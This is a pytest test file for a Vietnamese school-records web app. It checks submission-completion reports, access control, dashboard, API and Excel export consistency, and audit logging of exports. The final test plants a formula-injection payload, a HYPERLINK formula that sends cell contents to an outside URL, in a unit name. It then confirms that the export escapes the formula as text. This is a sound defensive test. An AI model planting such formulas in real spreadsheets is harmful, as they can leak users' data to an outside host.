"""Completion numbers are exact: the week of 08/09/2025 (W02), set up by hand."""

from __future__ import annotations

import datetime as dt
import io
import json
from typing import Any

import pytest
from openpyxl import load_workbook

from hoso.audit.models import AuditEntry
from hoso.org.models import Unit
from hoso.records.completion import completion_matrix, completion_report
from hoso.records.models import DueItem
from hoso.records.periods import VN

pytestmark = pytest.mark.django_db

START = dt.datetime(2025, 9, 8, tzinfo=VN)
END = dt.datetime(2025, 9, 9, tzinfo=VN)
NOW = dt.datetime(2025, 9, 10, tzinfo=VN)


@pytest.fixture
def week2(demo_user: Any) -> None:
    items = DueItem.objects.filter(
        record_type__code="TT28.KHBD", period_key="W02", school__code="TH1"
    )
    due = dt.datetime(2025, 9, 8, 7, tzinfo=VN)
    items.filter(owner=demo_user("th1.giaovien1")).update(submitted_at=due - dt.timedelta(hours=1))
    items.filter(owner=demo_user("th1.giaovien2")).update(submitted_at=due + dt.timedelta(hours=1))


def _row(report: Any, label: str) -> dict[str, Any]:
    return next(r.as_dict() for r in report.rows if r.label == label)


def test_group_rows_are_people(demo_user: Any, week2: None) -> None:
    group = Unit.objects.get(code="TH1-TO1")
    report = completion_report(demo_user("th1.totruong"), group, START, END, NOW)
    assert len(report.rows) == 3
    total = report.total.as_dict()
    assert (total["on_time"], total["late"], total["missing"], total["total"]) == (1, 1, 1, 3)
    assert (total["pct_submitted"], total["pct_on_time"]) == (66.7, 33.3)


def test_school_rolls_up_groups_and_the_phong_rolls_up_schools(demo_user: Any, week2: None) -> None:
    th1 = Unit.objects.get(code="TH1")
    school = completion_report(demo_user("th1.hieutruong"), th1, START, END, NOW)
    assert [
        (r["label"], r["on_time"], r["late"], r["missing"])
        for r in (row.as_dict() for row in school.rows)
    ] == [
        ("Tổ khối 1", 1, 1, 1),
        ("Tổ khối 2-3", 0, 0, 4),
        ("Tổ khối 4-5", 0, 0, 5),
    ]
    phong = completion_report(
        demo_user("phong1.chuyenvien"), Unit.objects.get(code="PGD-1"), START, END, NOW
    )
    assert {r.label: (r.submitted, r.values["missing"]) for r in phong.rows} == {
        "Trường Mầm non Hoa Sen": (0, 0),
        "Trường THCS Lê Quý Đôn": (0, 8),
        "Trường Tiểu học Nguyễn Du": (2, 10),
    }
    so = completion_report(
        demo_user("so.chuyenvien"), Unit.objects.get(code="SO-DEMO"), START, END, NOW
    )
    assert {r.label: r.owed for r in so.rows} == {
        "Phòng GDĐT Huyện An Phú": 20,
        "Phòng GDĐT Huyện Bình Minh": 7,
    }


def test_matrix_shows_each_person_and_period(demo_user: Any, week2: None) -> None:
    matrix = completion_matrix(
        demo_user("th1.hieutruong"), Unit.objects.get(code="TH1-TO1"), START, END, NOW
    )
    assert [c[:2] for c in matrix.columns] == [("TT28.KHBD", "W02")]
    assert sorted(s for _, cells in matrix.rows for s in cells) == ["late", "missing", "on_time"]


@pytest.mark.parametrize("who", ["th1.giaovien1", "th2.hieutruong", "phong2.chuyenvien"])
def test_units_the_caller_does_not_oversee_are_not_found(client_for: Any, who: str) -> None:
    th1 = Unit.objects.get(code="TH1")
    assert client_for(who).get(f"/ho-so/tinh-hinh-nop/?unit={th1.pk}").status_code == 404


def test_dashboard_page_api_and_excel_agree(client_for: Any, api_for: Any, week2: None) -> None:
    th1 = Unit.objects.get(code="TH1")
    query = f"unit={th1.pk}&from=08/09/2025&to=08/09/2025"
    page = client_for("phong1.chuyenvien").get(f"/ho-so/tinh-hinh-nop/?{query}")
    assert page.status_code == 200
    assert "Tổ khối 2-3" in page.content.decode()
    data = api_for("phong1.chuyenvien").get(f"/api/v1/completion/?{query}").json()
    assert (data["total"]["on_time"], data["total"]["late"], data["total"]["total"]) == (1, 1, 12)
    sheet = client_for("phong1.chuyenvien").get(f"/ho-so/tinh-hinh-nop/xuat.xlsx?{query}")
    book = load_workbook(io.BytesIO(sheet.content))
    rows = list(book["Tổng hợp"].iter_rows(values_only=True))
    assert rows[-1][:4] == ("Trường Tiểu học Nguyễn Du", 1, 1, 10)
    assert book["Chi tiết"].max_row == 13  # header + 12 teachers


def test_the_completion_query_count_does_not_grow_with_people(
    demo_user: Any, django_assert_max_num_queries: Any
) -> None:
    so = Unit.objects.get(code="SO-DEMO")
    user = demo_user("so.chuyenvien")
    with django_assert_max_num_queries(8):
        completion_report(
            user, so, START - dt.timedelta(days=300), END + dt.timedelta(days=300), NOW
        )


def test_every_excel_export_is_audited_as_an_export(client_for: Any) -> None:
    th1 = Unit.objects.get(code="TH1")
    query = f"unit={th1.pk}&from=08/09/2025&to=14/09/2025"
    before = AuditEntry.objects.filter(action="records.completion.exported").count()

    response = client_for("phong1.chuyenvien").get(
        f"/ho-so/tinh-hinh-nop/xuat.xlsx?{query}", REMOTE_ADDR="10.1.2.3"
    )

    assert response.status_code == 200
    entries = AuditEntry.objects.filter(action="records.completion.exported")
    assert entries.count() == before + 1
    entry = entries.latest("seq")
    assert (entry.actor.username, entry.object_id, entry.unit_id, entry.ip) == (
        "phong1.chuyenvien",
        str(th1.pk),
        th1.pk,
        "10.1.2.3",
    )
    assert json.loads(entry.data) == {
        "format": "xlsx",
        "unit": th1.pk,
        "from": "08/09/2025",
        "to": "14/09/2025",
        "rows": 3,
    }


def test_a_unit_name_typed_as_a_formula_stays_text_in_the_export(client_for: Any) -> None:
    group = Unit.objects.get(school__code="TH1", name="Tổ khối 1")
    Unit.objects.filter(pk=group.pk).update(name='=HYPERLINK("http://x/?"&A1,"Bấm")')
    th1 = Unit.objects.get(code="TH1")

    sheet = client_for("th1.hieutruong").get(f"/ho-so/tinh-hinh-nop/xuat.xlsx?unit={th1.pk}")

    book = load_workbook(io.BytesIO(sheet.content))
    labels = [row[0] for row in book["Tổng hợp"].iter_rows(values_only=True)]
    assert '\'=HYPERLINK("http://x/?"&A1,"Bấm")' in labels
    assert not any(str(v).startswith("=") for v in labels if v)
